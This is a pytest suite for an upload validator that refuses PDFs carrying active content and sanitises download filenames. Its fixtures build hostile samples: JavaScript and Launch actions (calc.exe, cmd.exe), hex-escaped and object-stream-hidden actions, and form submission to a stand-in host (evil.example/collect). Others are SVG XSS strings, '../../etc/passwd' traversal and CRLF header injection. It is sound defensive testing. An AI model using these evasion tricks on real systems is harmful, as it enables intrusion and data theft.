"""Upload content checks: sniffed types, size limit, active PDF content, download names."""
from __future__ import annotations

import io
import re
import zlib
from urllib.parse import unquote

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from reportlab.pdfgen import canvas

from evalsys.domain.uploads import (
    JPEG, MAX_UPLOAD_BYTES, PDF, PNG, UploadRejected, check_upload, clean_filename,
    read_limited, safe_download_name, scan_pdf, sniff,
)


def clean_pdf() -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, invariant=1)
    c.drawString(72, 720, "Application report")
    c.showPage()
    c.save()
    return buf.getvalue()


def image(fmt: str) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (16, 8), (200, 30, 30)).save(buf, format=fmt)
    return buf.getvalue()


def pypdf_bytes(writer: PdfWriter) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_with_names_js() -> bytes:
    w = PdfWriter()
    w.add_blank_page(200, 200)
    action = w._add_object(DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}))
    w._root_object[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("init"), action])})})
    return pypdf_bytes(w)


def pdf_with_annotation_action(action: DictionaryObject) -> bytes:
    """A page annotation whose additional action (/AA /E) is `action`."""
    w = PdfWriter()
    page = w.add_blank_page(200, 200)
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
        NameObject("/AA"): DictionaryObject({NameObject("/E"): action}),
    })
    page[NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
    return pypdf_bytes(w)


def launch_action() -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                             NameObject("/F"): TextStringObject("calc.exe")})


def raw_pdf(catalog_extra: bytes) -> bytes:
    """A minimal uncompressed PDF whose catalog gets `catalog_extra`."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def pdf_with_js_in_object_stream(open_action: bytes = b"<< /S /JavaScript /JS (app.alert(1)) >>") -> bytes:
    """PDF 1.5: catalog, pages and page live in a Flate-compressed object stream, found through
    a cross-reference stream; the catalog's OpenAction runs JavaScript (or `open_action`)."""
    bodies = [b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + open_action + b" >>",
              b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>"]
    header, body, pos = b"", b"", 0
    for num, obj in zip((2, 3, 4), bodies):
        header += b"%d %d " % (num, pos)
        body += obj + b"\n"
        pos = len(body)
    stream = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n")
    off1 = len(out)
    out += (b"1 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(stream))) + stream + b"\nendstream\nendobj\n"
    off5 = len(out)
    rows = [(0, 0, 65535), (1, off1, 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, off5, 0)]
    xref = b"".join(t.to_bytes(1, "big") + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
    out += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n"
            % len(xref)) + xref + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % off5
    return bytes(out)


def test_clean_pdf_and_images_are_accepted() -> None:
    assert check_upload(clean_pdf()) is PDF
    assert check_upload(image("PNG")) is PNG
    assert check_upload(image("JPEG")) is JPEG
    assert (PDF.mime, PDF.extension, JPEG.mime, JPEG.extension) == (
        "application/pdf", ".pdf", "image/jpeg", ".jpg")


@pytest.mark.parametrize("data", [
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100,  # a Windows executable named 申报书.pdf
    b"PK\x03\x04" + b"\x00" * 100,  # zip / docx / xlsx
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b"<svg onload=alert(1)>", b"GIF89a" + b"\x00" * 20, b"\x7fELF" + b"\x00" * 20,
    b" %PDF-1.4 leading space",
])
def test_other_types_are_refused(data: bytes) -> None:
    with pytest.raises(UploadRejected) as err:
        check_upload(data)
    assert err.value.code == "type" and "PDF" in err.value.message


def test_kind_allow_list_per_slot() -> None:
    with pytest.raises(UploadRejected, match="PDF"):
        check_upload(image("PNG"), allowed=("pdf",))
    assert check_upload(image("PNG"), allowed=("pdf", "png", "jpeg")) is PNG


def test_size_limit_exact_and_plus_one_byte() -> None:
    pdf = clean_pdf()
    assert check_upload(pdf, max_bytes=len(pdf)) is PDF
    with pytest.raises(UploadRejected) as err:
        check_upload(pdf, max_bytes=len(pdf) - 1)
    assert err.value.code == "size"
    big = b"%PDF-1.4\n" + b"0" * (MAX_UPLOAD_BYTES + 1 - 9)
    assert len(big) == MAX_UPLOAD_BYTES + 1
    with pytest.raises(UploadRejected, match="20 MB"):
        check_upload(big)
    stream = io.BytesIO(big)
    with pytest.raises(UploadRejected):
        read_limited(stream)
    assert stream.tell() == MAX_UPLOAD_BYTES + 1  # stopped right after the limit
    assert read_limited(io.BytesIO(pdf), len(pdf)) == pdf
    with pytest.raises(UploadRejected, match="空"):
        check_upload(b"")


@pytest.mark.parametrize("make", [
    pdf_with_names_js,
    lambda: pdf_with_annotation_action(launch_action()),
    lambda: pdf_with_annotation_action(DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})),
    lambda: raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    lambda: raw_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    lambda: raw_pdf(b"/AA << /WC << /S /Rendition /JS (app.alert(1)) >> >>"),
    pdf_with_js_in_object_stream,
], ids=["names-tree", "launch-annotation", "js-annotation", "hex-escaped-openaction",
        "hex-escaped-launch", "rendition-js", "object-stream"])
def test_active_pdf_content_is_refused(make: object) -> None:
    data = make()  # type: ignore[operator]
    with pytest.raises(UploadRejected) as err:
        check_upload(data)
    assert err.value.code == "pdf_active" and "脚本" in err.value.message


def test_object_stream_js_is_found_by_the_parser_not_by_bytes() -> None:
    data = pdf_with_js_in_object_stream()
    assert b"JavaScript" not in data  # only the walk over the parsed objects can see it
    assert PdfReader(io.BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    with pytest.raises(UploadRejected):
        scan_pdf(data)


def test_raw_pdf_without_actions_passes() -> None:
    """The hand-built PDFs above are refused for their actions, not for being hand-built."""
    assert check_upload(raw_pdf(b"")) is PDF
    assert check_upload(raw_pdf(b"/PageMode /UseNone")) is PDF


def test_font_subset_names_are_not_mistaken_for_js() -> None:
    assert check_upload(raw_pdf(b"/Extra /JSKRKF+SimSun /Note (Launch JavaScript)")) is PDF


@pytest.mark.parametrize("data", [b"%PDF-1.4\n garbage", b"%PDF-", b"%PDF-1.7\n" + b"\x00" * 64])
def test_unparseable_pdf_is_refused(data: bytes) -> None:
    with pytest.raises(UploadRejected) as err:
        check_upload(data)
    assert err.value.code == "pdf_unreadable"


def test_encrypted_pdf_is_refused() -> None:
    w = PdfWriter()
    w.add_blank_page(100, 100)
    w.encrypt("secret", algorithm="RC4-128")
    with pytest.raises(UploadRejected) as err:
        check_upload(pypdf_bytes(w))
    assert err.value.code == "pdf_encrypted"


def test_broken_image_is_refused() -> None:
    png = image("PNG")
    with pytest.raises(UploadRejected) as err:
        check_upload(png[:20])
    assert err.value.code == "image_unreadable"
    assert sniff(png[:20]) is PNG  # the sniffer alone would have let it through


def test_chinese_filename_header_round_trip() -> None:
    value = safe_download_name("申报书.pdf")
    m = re.fullmatch(r'attachment; filename="([^"]*)"; filename\*=UTF-8\'\'(\S+)', value)
    assert m is not None
    assert m.group(1) == "download.pdf"
    assert unquote(m.group(2), encoding="utf-8") == "申报书.pdf"
    value.encode("latin-1")  # header values must be Latin-1; this one is pure ASCII


@pytest.mark.parametrize("original,kept", [
    ("营业执照（副本）2015.jpg", "营业执照（副本）2015.jpg"),
    ("C:\\Users\\王\\审计报告.pdf", "审计报告.pdf"),
    ("../../etc/passwd", "passwd"),
    ('a"b\r\nSet-Cookie: x=1.pdf', 'a"bSet-Cookie: x=1.pdf'),
    ("", "download"),
    ("...", "download"),
])
def test_download_names_are_safe(original: str, kept: str) -> None:
    assert clean_filename(original) == kept
    value = safe_download_name(original)
    assert "\r" not in value and "\n" not in value
    fallback = value.split('"')[1]
    assert re.fullmatch(r"[A-Za-z0-9._-]+", fallback)
    assert unquote(value.rsplit("''", 1)[1]) == kept


def test_long_names_keep_their_extension() -> None:
    name = clean_filename("申" * 500 + ".pdf")
    assert name.endswith(".pdf") and len(name) <= 150


# --- what else a PDF may not carry: URI on open, form submission, remote go-to, embedded files, RichMedia ----

def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = value
    return action


def pdf_with_open_action(action: DictionaryObject) -> bytes:
    w = PdfWriter()
    w.add_blank_page(200, 200)
    w._root_object[NameObject("/OpenAction")] = w._add_object(action)
    return pypdf_bytes(w)


def pdf_with_page_open_action(action: DictionaryObject) -> bytes:
    """The page's additional action /AA /O (runs when the page is shown)."""
    w = PdfWriter()
    page = w.add_blank_page(200, 200)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return pypdf_bytes(w)


def pdf_with_annotation(subtype: str, **entries: object) -> bytes:
    w = PdfWriter()
    page = w.add_blank_page(200, 200)
    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                              NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)])})
    for key, value in entries.items():
        annot[NameObject("/" + key)] = value
    page[NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
    return pypdf_bytes(w)


def pdf_with_embedded_file() -> bytes:
    w = PdfWriter()
    w.add_blank_page(200, 200)
    w.add_attachment("setup.exe", b"MZ\x90\x00 not really a program")
    return pypdf_bytes(w)


def pdf_with_uri_open_action_in_object_stream() -> bytes:
    """The catalog's OpenAction opens a web address, inside an object stream: only the parser sees it."""
    data = pdf_with_js_in_object_stream(b"<< /S /URI /URI (http://evil.example/x) >>")
    assert b"URI" not in data
    return data


URL = TextStringObject("http://evil.example/collect")
REFUSED_PDFS = [
    ("uri-open-action", lambda: pdf_with_open_action(_action("/URI", URI=URL)), "网址"),
    ("uri-page-open", lambda: pdf_with_page_open_action(_action("/URI", URI=URL)), "网址"),
    ("uri-after-goto", lambda: pdf_with_open_action(_action("/GoTo", D=ArrayObject([NumberObject(0)]),
                                                            Next=_action("/URI", URI=URL))), "网址"),
    ("uri-open-action-object-stream", pdf_with_uri_open_action_in_object_stream, "网址"),
    ("submit-form-open-action", lambda: pdf_with_open_action(_action("/SubmitForm", F=URL)), "SubmitForm"),
    ("import-data-field-trigger", lambda: pdf_with_annotation_action(_action("/ImportData", F=URL)), "ImportData"),
    ("hex-escaped-submit-form", lambda: raw_pdf(b"/OpenAction << /S /Sub#6DitForm /F (http://x.example) >>"),
     "SubmitForm"),
    ("embedded-files", pdf_with_embedded_file, "嵌入文件"),
    ("file-attachment-annotation", lambda: pdf_with_annotation("/FileAttachment", FS=TextStringObject("a.exe")),
     "嵌入文件"),
    ("rich-media-annotation", lambda: pdf_with_annotation("/RichMedia"), "RichMedia"),
    ("goto-remote", lambda: pdf_with_annotation("/Link", A=_action("/GoToR", F=TextStringObject("other.pdf"),
                                                                    D=ArrayObject([NumberObject(0)]))), "GoToR"),
    ("goto-embedded", lambda: pdf_with_annotation("/Link", A=_action("/GoToE", D=ArrayObject([NumberObject(0)]))),
     "GoToE"),
]


@pytest.mark.parametrize(("make", "says"), [(m, s) for _, m, s in REFUSED_PDFS], ids=[i for i, _, _ in REFUSED_PDFS])
def test_pdfs_that_act_by_themselves_or_carry_files_are_refused(make, says) -> None:
    with pytest.raises(UploadRejected) as err:
        check_upload(make())
    assert err.value.code == "pdf_active" and says in err.value.message and "不能上传" in err.value.message


def test_a_benign_pdf_with_links_and_an_open_destination_is_accepted() -> None:
    """An internal link, a link a reader clicks to a web page, and an OpenAction that is only a
    destination (which references the page and its links) are ordinary and pass."""
    w = PdfWriter()
    first = w.add_blank_page(200, 200)
    second = w.add_blank_page(200, 200)
    internal = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                                 NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
                                 NameObject("/A"): _action("/GoTo", D=ArrayObject([second.indirect_reference,
                                                                                   NameObject("/Fit")]))})
    web = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (60, 0, 110, 50)]),
                            NameObject("/A"): _action("/URI", URI=TextStringObject("https://www.mofcom.gov.cn/"))})
    first[NameObject("/Annots")] = ArrayObject([w._add_object(internal), w._add_object(web)])
    w._root_object[NameObject("/OpenAction")] = ArrayObject([first.indirect_reference, NameObject("/Fit")])
    assert check_upload(pypdf_bytes(w)) is PDF
